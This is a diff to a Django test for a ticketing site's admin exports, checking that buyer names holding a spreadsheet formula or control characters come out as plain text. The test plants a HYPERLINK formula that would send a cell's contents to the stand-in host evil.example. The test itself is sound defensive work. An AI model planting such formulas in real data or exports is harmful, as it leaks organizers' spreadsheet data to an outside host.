@@ -217,8 +217,11 @@ def test_exports_write_a_buyers_formula_as_text_and_survive_control_characters(s
     """A buyer types a spreadsheet formula, or a control character, as their name: the
     organizer's spreadsheet shows it as text, and the export still opens."""
     orders = Order.objects.filter(performance=sales).order_by("pk")
-    Customer.objects.filter(pk=orders[0].customer_id).update(name='=HYPERLINK("http://evil.example/?"&B2,"Verify")')
-    Customer.objects.filter(pk=orders[1].customer_id).update(name="Bell\x07man\x1b", phone="+1 514 555 0100")
+    formula, bell = '=HYPERLINK("http://evil.example/?"&B2,"Verify")', "Bell\x07man\x1b"
+    Customer.objects.filter(pk=orders[0].customer_id).update(name=formula)
+    Order.objects.filter(customer_id=orders[0].customer_id).update(buyer_name=formula)
+    Customer.objects.filter(pk=orders[1].customer_id).update(name=bell, phone="+1 514 555 0100")
+    Order.objects.filter(customer_id=orders[1].customer_id).update(buyer_name=bell, buyer_phone="+1 514 555 0100")
     admin = signed_in(organizer)
     url = "/admin/sales/performancedashboard/exports/"
     for kind in ("orders", "tickets", "customers"):
